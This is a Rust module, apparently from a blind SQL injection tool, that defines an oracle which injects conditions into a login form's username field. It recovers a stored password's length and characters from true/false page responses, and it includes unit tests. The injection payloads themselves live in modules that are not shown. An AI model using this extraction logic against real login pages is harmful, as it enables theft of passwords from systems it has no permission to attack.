//! Boolean oracle over the injectable login form
//!
//! A [`Condition`] is rendered into the username field, the login page answers,
//! and the answer is read back as true or false.

pub mod http;
pub mod payload;

pub use http::HttpOracle;
pub use payload::InjectionTemplate;

use crate::http::HttpResponse;

/// Marker the login page shows when the injected condition is false
pub const DEFAULT_FAILURE_MARKER: &str = "Invalid username";

/// How a candidate character is embedded inside the SQL string literal
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Quoting {
    /// Single quotes are doubled (`'` becomes `''`)
    Doubled,
    /// Embedded verbatim
    Raw,
}

impl Quoting {
    pub fn literal(self, candidate: char) -> String {
        match self {
            Quoting::Doubled if candidate == '\'' => "''".to_string(),
            _ => candidate.to_string(),
        }
    }
}

/// A yes/no question about the stored password
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Condition {
    LengthEquals(usize),
    /// `position` is 1-based, as SQL `SUBSTR` counts
    CharAt {
        position: usize,
        candidate: char,
        quoting: Quoting,
    },
}

/// Answers conditions about the stored password.
///
/// Verdicts are taken at face value: there is no retry and no noise filtering.
/// Transport failures surface as `Err`, never as `Ok(false)`.
#[allow(async_fn_in_trait)]
pub trait Oracle {
    async fn check(&self, condition: &Condition) -> anyhow::Result<bool>;
}

/// Determine if response indicates TRUE condition
pub fn is_true_response(resp: &HttpResponse, failure_marker: &str) -> bool {
    resp.status == 200 && !resp.body_contains(failure_marker)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_doubled_quoting_escapes_single_quote() {
        assert_eq!(Quoting::Doubled.literal('\''), "''");
        assert_eq!(Quoting::Doubled.literal('a'), "a");
        assert_eq!(Quoting::Raw.literal('\''), "'");
    }

    #[test]
    fn test_true_response_requires_200_and_no_marker() {
        let ok = HttpResponse::from_text(200, "<h1>Hello, admin!</h1>");
        let rejected = HttpResponse::from_text(200, "Invalid username or password");
        let error = HttpResponse::from_text(500, "Internal Server Error");

        assert!(is_true_response(&ok, DEFAULT_FAILURE_MARKER));
        assert!(!is_true_response(&rejected, DEFAULT_FAILURE_MARKER));
        assert!(!is_true_response(&error, DEFAULT_FAILURE_MARKER));
    }
}
